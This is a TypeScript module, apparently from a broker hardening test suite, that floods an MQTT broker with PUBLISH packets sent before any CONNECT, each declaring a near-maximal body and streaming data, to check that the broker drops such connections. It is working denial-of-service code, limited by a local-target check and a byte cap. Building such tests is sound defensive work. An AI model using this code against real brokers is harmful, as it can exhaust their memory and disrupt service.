/**
 * MQTT PUBLISH packets without a CONNECT first, declaring a huge body and streaming it: the broker should close the
 * connection at once, not buffer the body.
 */
import { assertLocal, type Attack } from './attack.js';
import { holdSockets } from './held-sockets.js';

/** A PUBLISH fixed header (QoS 0) declaring `length` bytes to follow (MQTT variable-length integer, max 268,435,455). */
function publishHeader(length: number): Buffer {
  const bytes = [0x30];
  let x = length;
  do {
    let b = x % 128;
    x = Math.floor(x / 128);
    if (x > 0) b |= 0x80;
    bytes.push(b);
  } while (x > 0);
  return Buffer.from(bytes);
}

const CHUNK = Buffer.alloc(64 * 1024, 0x61);
/** At most this much body per connection: enough to show buffering, bounded for the attacker's own sake. */
const MAX_BYTES_PER_CONNECTION = 8 * 1024 * 1024;

export const mqttPublishWithoutConnect: Attack = async (target, budget) => {
  assertLocal(target);
  const started = Date.now();
  const { opened, endedByServer } = await holdSockets(
    { host: target.host, port: target.mqttPort, from: target.from },
    budget.count,
    budget.holdMs,
    (s) => {
      s.write(Buffer.concat([publishHeader(268_435_455), Buffer.from([0x00, 0x01, 0x74])]));
      let sent = 0;
      const pump = () => {
        while (sent < MAX_BYTES_PER_CONNECTION && !s.destroyed) {
          sent += CHUNK.length;
          if (!s.write(CHUNK)) return void s.once('drain', pump);
        }
      };
      pump();
    },
  );
  return {
    name: 'mqtt-publish-without-connect',
    attempts: opened,
    endedByServer,
    ms: Date.now() - started,
    note: 'oversized PUBLISH-first connections the broker closed',
  };
};
